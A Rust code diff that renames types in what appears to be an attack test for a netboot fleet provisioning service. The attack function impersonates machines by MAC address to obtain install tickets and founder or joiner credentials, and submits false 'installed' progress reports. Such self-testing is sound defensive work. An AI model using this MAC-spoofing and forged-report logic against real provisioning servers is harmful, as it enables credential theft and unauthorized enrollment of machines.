@@ -6,8 +6,8 @@ use std::process::{Child, Command, Stdio};
 use std::thread::sleep;
 use std::time::{Duration, Instant};
 
-use fleet::netboot::{Errand, Key, Machine};
-use fleet::{Right, Ticket, encoding};
+use fleet::netboot::{Assignment, Key, NetbootMachine};
+use fleet::{Credential, Ticket, encoding};
 use fleet_https::{Connection, request};
 use ring::aead::{AES_256_GCM, Aad, LessSafeKey, Nonce, UnboundKey};
 use ring::digest::{SHA256, digest};
@@ -81,16 +81,16 @@ pub async fn tell(path: &str, message: &Value) -> Result<Vec<u8>, String> {
 pub async fn ticket_of(macs: &[&str]) -> Result<Ticket, String> {
     let key = Key::generate().map_err(|e| e.to_string())?;
     let machine = json!({
-        "version": Machine::VERSION, "macs": macs, "serial": "", "memory": 8_u64 << 30, "key": key.public(),
+        "version": NetbootMachine::VERSION, "macs": macs, "serial": "", "memory": 8_u64 << 30, "key": key.public(),
         "disks": [{ "path": "/dev/sda", "size": 64_u64 << 30, "removable": false }],
     });
     let answer = tell("/v1/machine", &machine).await?;
     let sealed =
         match serde_json::from_slice(&answer).map_err(|e| format!("{e}: {}", String::from_utf8_lossy(&answer)))? {
-            Errand::Install(install) => install.ticket,
-            Errand::Run(run) => run.ticket,
-            Errand::Confirm { to } => return Err(format!("the operator has to confirm the code of {to}")),
-            Errand::Nothing { why } => return Err(why),
+            Assignment::Install(install) => install.ticket,
+            Assignment::Run(run) => run.ticket,
+            Assignment::Confirm { to } => return Err(format!("the operator has to confirm the code of {to}")),
+            Assignment::Nothing { why } => return Err(why),
         };
     let (ticket, _) = key.open(&sealed).map_err(|e| e.to_string())?;
     // A ticket for the EFI partition is a systemd credential, encrypted with systemd's null key.
@@ -125,7 +125,7 @@ pub fn attack(arena: &Arena, from: &mut Foothold) {
     let path = file.display().to_string();
     let (joiners, mut loot) = from.run(|| async {
         let (mut joiners, mut loot) = (Vec::new(), Vec::new());
-        let news = |mac: &str| json!({ "version": Machine::VERSION, "mac": mac, "step": "installed" });
+        let news = |mac: &str| json!({ "version": NetbootMachine::VERSION, "mac": mac, "step": "installed" });
         // The MAC address of a machine in fleet.toml, and a false progress report of it.
         match ticket_of(&[HUB_MAC]).await {
             Ok(ticket) => loot.push(format!("{} for a MAC address seen on the network", right(&ticket))),
@@ -141,8 +141,8 @@ pub fn attack(arena: &Arena, from: &mut Foothold) {
         }
         println!("  report with a path: {:?}", tell("/v1/news", &news(&path)).await.map(|_| "accepted"));
         match ticket_of(&["52:54:00:00:00:66"]).await.map(|t| t.right) {
-            Ok(Right::Joiner(joiner)) => joiners.push(joiner),
-            Ok(Right::Founder(founder)) => loot.push(format!("the founder's ticket of {}", founder.slot)),
+            Ok(Credential::Joiner(joiner)) => joiners.push(joiner),
+            Ok(Credential::Founder(founder)) => loot.push(format!("the founder's ticket of {}", founder.slot)),
             Err(e) => println!("  any machine: {e}"),
         }
         (joiners, loot)
@@ -156,7 +156,7 @@ pub fn attack(arena: &Arena, from: &mut Foothold) {
 
 fn right(ticket: &Ticket) -> String {
     match &ticket.right {
-        Right::Founder(founder) => format!("the founder's ticket of {}", founder.slot),
-        Right::Joiner(_) => "a joiner's ticket".to_owned(),
+        Credential::Founder(founder) => format!("the founder's ticket of {}", founder.slot),
+        Credential::Joiner(_) => "a joiner's ticket".to_owned(),
     }
 }
